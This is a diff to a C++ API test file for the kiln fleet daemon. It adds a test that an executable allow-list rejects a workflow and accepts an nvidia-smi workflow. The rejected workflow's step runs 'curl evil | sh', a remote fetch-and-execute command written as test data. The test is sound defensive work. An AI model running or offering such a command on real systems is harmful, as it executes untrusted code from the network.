@@ -3,6 +3,11 @@
 // host's agent token, the Slurm prolog's token, a forged inventory. Every attempt is refused
 // with a clear 4xx, writes nothing, and leaves the real host's agent working.
 
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+
 #include "tests/api/api_fixture.h"
 
 namespace kiln::apitest {
@@ -178,6 +183,40 @@ TEST_F(AttackerTest, AnEnrolmentTokenRequestOfTheWrongShapeIsRefused) {
                       422, "invalid_content"));
   EXPECT_TRUE(isError(call(*operator_, "POST", "/api/v1/hosts/no-such-host/enrolment-tokens", "{}"), 404, "not_found"));
   EXPECT_EQ(db_->query("SELECT count(*) FROM tokens WHERE role = 'enroll' AND host_id IS NOT NULL"), "0");
+}
+
+// kilnd started with --workflow-executables: even an admin's token (stolen) cannot put a
+// workflow that runs anything else on the fleet's hosts.
+class AllowListAttackerTest : public ApiTest {
+ protected:
+  std::vector<std::string> extraKilndArgs() const override { return {"--workflow-executables", list_}; }
+  void SetUp() override {
+    list_ = (std::filesystem::temp_directory_path() / ("kiln-allow-" + std::to_string(::getpid()))).string();
+    std::ofstream(list_) << "# the fleet's tools\nnvidia-smi\n";
+    ApiTest::SetUp();
+  }
+  void TearDown() override {
+    ApiTest::TearDown();
+    std::filesystem::remove(list_);
+  }
+  std::string list_;
+};
+
+TEST_F(AllowListAttackerTest, AWorkflowRunningAnythingElseIsRefusedAndNothingStored) {
+  Reply bad = call(*admin_, "PUT", "/api/v1/workflows/pwn",
+                   "name: pwn\nversion: \"1\"\nscope: host\nsteps:\n  - id: s\n    run: [bash, -c, \"curl evil | sh\"]\n"
+                   "    timeout: 1m\n",
+                   "application/yaml");
+  ASSERT_TRUE(isError(bad, 422, "invalid_content")) << bad.body;
+  EXPECT_EQ(bad.doc()["error"]["details"]["fields"][0]["path"], "steps[0].run[0]") << bad.body;
+  EXPECT_TRUE(isError(call(*admin_, "GET", "/api/v1/workflows/pwn"), 404, "not_found"));
+  EXPECT_EQ(db_->query("SELECT count(*) FROM workflow_versions WHERE name = 'pwn'"), "0");
+
+  Reply good = call(*admin_, "PUT", "/api/v1/workflows/smi",
+                    "name: smi\nversion: \"1\"\nscope: host\nsteps:\n  - id: s\n    run: [nvidia-smi, -q]\n"
+                    "    timeout: 1m\n",
+                    "application/yaml");
+  EXPECT_TRUE(good.status == 200 || good.status == 201) << good.body;
 }
 
 }  // namespace
